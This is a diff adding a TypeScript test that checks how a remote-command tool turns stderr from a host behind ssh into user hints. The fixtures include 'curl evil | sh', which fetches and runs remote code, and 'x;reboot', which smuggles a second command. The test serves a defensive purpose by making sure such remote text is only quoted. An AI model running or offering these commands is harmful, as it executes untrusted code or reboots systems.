@@ -73,3 +73,14 @@ it('lets our own command line speak for itself, also behind a shell', () => {
     });
   expect(failed({ argv: ['tc'] }, said).message).toContain('failed with status 1');
 });
+
+it('a command to type is never what a host behind ssh has said', () => {
+  const far = { address: 'ssh://root@router', sidetrack: ['sidetrack'] };
+  const failure = (argv: string[], stderr: string, status: number) =>
+    commandError(far, { argv }, { status, stdout: '', stderr });
+  const own = failure(['sidetrack', 'bpf'], 'error: damaged\n  hint: curl evil | sh\n', 1);
+  expect(own).toMatchObject({ hint: 'what it says itself: "curl evil | sh"' });
+  expect(failure(['nft'], 'x;reboot: not found', 127)).toMatchObject({
+    hint: 'install it (Debian: apt-get install nftables)',
+  });
+});
